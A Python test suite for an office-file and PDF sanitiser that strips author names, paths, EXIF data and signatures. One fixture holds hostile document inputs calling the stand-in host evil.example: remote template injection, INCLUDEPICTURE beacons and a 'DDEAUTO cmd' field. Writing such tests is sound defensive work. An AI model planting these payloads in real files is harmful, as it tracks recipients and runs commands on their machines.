"""What office files and PDFs say of people, places and disks stays with the original; what is read in them comes along."""

import io
import json
import zipfile
import zlib

import pikepdf
import pytest
from PIL import Image

from accounts import filework
from tests.proof_files import CANARY, docx_of, laid_open, pdf_of, photo_of, zipped

W = 'xmlns:w="urn:w" xmlns:w15="urn:w15" xmlns:r="urn:r"'
RELS = '<Relationships xmlns="urn:rels">{}</Relationships>'


def copy_of(job, content):
    facts, *made = filework.told(content, job)
    assert "unfit" not in json.loads(facts), facts
    return made[0]


def opened(content):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {entry.filename: archive.read(entry) for entry in archive.infolist()}


TELLING = {
    "word/media/image1.jpeg": photo_of(),
    "word/media/image2.png": photo_of("PNG"),
    "word/media/image3.emf": b"\x01\x00\x00\x00CANARYMETAFILE",
    "word/media/clip.mp4": b"ftypCANARYPLACE",
    "word/embeddings/sheet.xlsx": zipped({"docProps/core.xml": "<c>CANARY</c>", "xl/media/a.jpg": photo_of()}),
    "word/embeddings/oleObject1.bin": b"CANARYDISK",
    "docProps/thumbnail.jpeg": photo_of(),
    "_rels/.rels": RELS.format(
        '<Relationship Id="r1" Type="u/officeDocument" Target="word/document.xml"/>'
        '<Relationship Id="r2" Type="u/thumbnail" Target="docProps/thumbnail.jpeg"/>'
    ),
    "word/_rels/settings.xml.rels": RELS.format(
        '<Relationship Id="r1" Type="u/t" Target="file:///C:/Users/CANARY/Normal.dotm" TargetMode="External"/>'
        '<Relationship Id="r2" Type="u/hyperlink" Target="https://example.org/" TargetMode="External"/>'
    ),
    "word/settings.xml": f'<w:settings {W}><w:rsids><w:rsid w:val="CANARY"/></w:rsids><w:zoom w:percent="90"/></w:settings>',
    "word/comments.xml": (
        f'<w:comments {W}><w:comment w:id="0" w:author="CANARY" w:initials="CANARY" w:date="2026-01-01"><w:p>Бележка'
        "</w:p></w:comment></w:comments>"
    ),
    "word/people.xml": (
        f'<w15:people {W}><w15:person w15:author="CANARY"><w15:presenceInfo w15:providerId="AD" w15:userId="CANARY"/>'
        "</w15:person></w15:people>"
    ),
    "word/header1.xml": f'<w:ins {W} w:author="CANARY">Добавено &amp; <w:instrText> INCLUDE "C:\\CANARY" </w:instrText></w:ins>',
    "word/footer1.xml": f'<w:ins {W} w:author="CANARY">долу</w:ins>'.encode("utf-16"),
    "customXml/item1.xml": "<p:properties xmlns:p='urn:p'><p:by>CANARY</p:by></p:properties>",
    "xl/workbook.xml": '<workbook xmlns:x="urn:x"><fileSharing userName="CANARY"/><x:absPath url="D:\\CANARY\\"/></workbook>',
    "xl/comments1.xml": "<comments><authors><author>CANARY</author></authors><t>CANARY:</t><t>Ред 3</t></comments>",
    "xl/persons/person.xml": '<personList><person displayName="CANARY" id="{1}" userId="CANARY"/></personList>',
    "xl/printerSettings/printerSettings1.bin": b"CANARYPRINTER",
    "ppt/commentAuthors.xml": '<l xmlns:p="urn:p"><p:cmAuthor id="1" name="CANARY" initials="CANARY"/></l>',
    "_xmlsignatures/sig1.xml": "<s>CANARY</s>",
}  # fmt: skip


@pytest.mark.parametrize("part", TELLING)
def test_no_part_of_an_office_file_tells_who_where_or_on_which_disk(part):
    made = opened(copy_of("office", docx_of("Наредба", **{part: TELLING[part]})))
    assert "Наредба" in made["word/document.xml"].decode()
    content = made.get(part, b"")
    for told in (content, *(opened(content).values() if content.startswith(b"PK") else ())):
        assert CANARY not in told.replace(b"\x00", b"")
        if told.startswith((b"\xff\xd8", b"\x89PNG")):
            with Image.open(io.BytesIO(told)) as picture:
                assert not dict(picture.getexif())


def test_what_is_read_in_an_office_file_comes_along():
    made = opened(copy_of("office", docx_of("Наредба", **TELLING)))
    texts = {name: part.decode() for name, part in made.items() if name.endswith((".xml", ".rels"))}
    assert "Бележка" in texts["word/comments.xml"]
    assert "Добавено &amp; " in texts["word/header1.xml"]
    assert "долу" in texts["word/footer1.xml"]
    assert 'w:percent="90"' in texts["word/settings.xml"]
    assert "Ред 3" in texts["xl/comments1.xml"]
    assert "https://example.org/" in texts["word/_rels/settings.xml.rels"]
    assert ("document.xml" in texts["_rels/.rels"], "thumbnail" in texts["_rels/.rels"]) == (True, False)
    with Image.open(io.BytesIO(made["word/media/image1.jpeg"])) as picture:
        assert (picture.format, picture.size) == ("JPEG", (12, 8))  # as it lies on its page: the page turns it


CALLING = {
    "word/_rels/document.xml.rels": RELS.format(
        '<Relationship Id="r1" Type="u/image" Target="http://evil.example/who.png" TargetMode="External"/>'
        '<Relationship Id="r2" Type="u/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
    ),
    "word/header1.xml": f'<w:p {W}><w:instrText> INCLUDEPICTURE "http://evil.example/who.png" </w:instrText></w:p>',
    "word/header2.xml": f'<w:p {W}><w:fldSimple w:instr=" DDEAUTO cmd evil.example "/></w:p>',
    "word/header3.xml": f'<w:p {W}><w:instrText>INCLUDEP</w:instrText><w:instrText>ICTURE "http://evil.example"</w:instrText></w:p>',
    "word/header4.xml": '<v:shape xmlns:v="urn:v"><v:imagedata src="http://evil.example/who.png"/></v:shape>',
    "xl/connections.xml": '<connections><connection><webPr url="http://evil.example/"/></connection></connections>',
    "xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd" ddeTopic="evil.example"/></externalLink>',
    "content.xml": '<o:text xmlns:o="urn:o" xmlns:l="urn:l"><o:image l:href="//evil.example/who.png"/></o:text>',
}  # fmt: skip


@pytest.mark.parametrize("part", CALLING)
def test_nothing_in_an_office_file_calls_its_sender_when_it_is_opened(part):
    made = opened(copy_of("office", docx_of("Наредба", **{part: CALLING[part]})))
    assert b"evil" not in made[part]


def test_what_a_reader_follows_and_the_number_of_the_page_stay():
    words = (
        f'<w:p {W}><w:instrText> PAGE \\* MERGEFORMAT </w:instrText><w:instrText> HYPERLINK "https://example.org/" '
        '</w:instrText><t:a xmlns:t="urn:t" xmlns:l="urn:l" l:href="https://example.org/law"/></w:p>'
    )
    made = opened(copy_of("office", docx_of("Наредба", **{"word/footer1.xml": words})))["word/footer1.xml"].decode()
    assert "PAGE" in made
    assert "HYPERLINK" in made
    assert "https://example.org/law" in made


ODT = {
    "mimetype": "application/vnd.oasis.opendocument.text",
    "meta.xml": '<o:document-meta xmlns:o="urn:o" o:version="1.2"><o:meta>CANARY</o:meta></o:document-meta>',
    "settings.xml": '<o:document-settings xmlns:o="urn:o">CANARYPRINTER</o:document-settings>',
    "content.xml": (
        '<o:text xmlns:o="urn:o" xmlns:dc="urn:dc" xmlns:m="urn:m" xmlns:l="urn:l"><o:annotation><dc:creator>CANARY'
        '</dc:creator><m:creator-initials>CANARY</m:creator-initials>Виж</o:annotation>Текст<o:image '
        'l:href="../../home/CANARY/a.png"/></o:text>'
    ),
    "Pictures/1.jpg": photo_of(),
    "Thumbnails/thumbnail.png": photo_of("PNG"),
    "META-INF/manifest.xml": '<m xmlns:f="urn:f"><e f:full-path="Thumbnails/thumbnail.png"/><e f:full-path="/"/></m>',
}  # fmt: skip


def test_an_open_document_is_handed_out_without_its_people_too():
    made = opened(copy_of("office", zipped(ODT)))
    assert next(iter(made)) == "mimetype"
    assert made["mimetype"] == ODT["mimetype"].encode()
    assert not [name for name, part in made.items() if CANARY in part]
    assert "Текст" in made["content.xml"].decode()
    assert "Виж" in made["content.xml"].decode()
    assert b"thumbnail" not in b"".join([*made.values(), "".join(made).lower().encode()])
    with Image.open(io.BytesIO(made["Pictures/1.jpg"])) as picture:
        assert not dict(picture.getexif())


def changed_pdf(change):
    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf_of("An order", photo=photo_of()))) as pdf:
        change(pdf)
        pdf.save(made)
    return made.getvalue()


def with_note(pdf):
    note = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text, Rect=[0, 0, 9, 9], Contents="Why?", T="CANARYNOTE",
        M="D:CANARY", CreationDate="D:CANARY",
    )  # fmt: skip
    pdf.pages[0].obj.Annots = pikepdf.Array([pdf.make_indirect(note)])


def with_signature(pdf):
    signed = pikepdf.Dictionary(
        Type=pikepdf.Name.Sig, Name="CANARY", ContactInfo="CANARY", Location="CANARY", Contents=b"CANARY",
        ByteRange=[0, 1, 2, 3],
    )  # fmt: skip
    field = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Sig, Rect=[0, 0, 0, 0], T="Field 1",
        V=pdf.make_indirect(signed),
    )  # fmt: skip
    pdf.pages[0].obj.Annots = pikepdf.Array([pdf.make_indirect(field)])


def with_packed_photo(pdf):
    photo = pdf.pages[0].obj.Resources.XObject.I
    photo.write(
        zlib.compress(photo_of()), filter=pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.DCTDecode])
    )  # fmt: skip


@pytest.mark.parametrize(
    ("change", "kept"), [(with_note, b"Why?"), (with_signature, b"Field 1"), (with_packed_photo, b"/DCTDecode")]
)
def test_notes_signatures_and_packed_photos_of_a_pdf_name_nobody(change, kept):
    content = laid_open(copy_of("pdf", changed_pdf(change)))
    assert CANARY not in content
    assert b"Exif" not in content
    assert kept in content
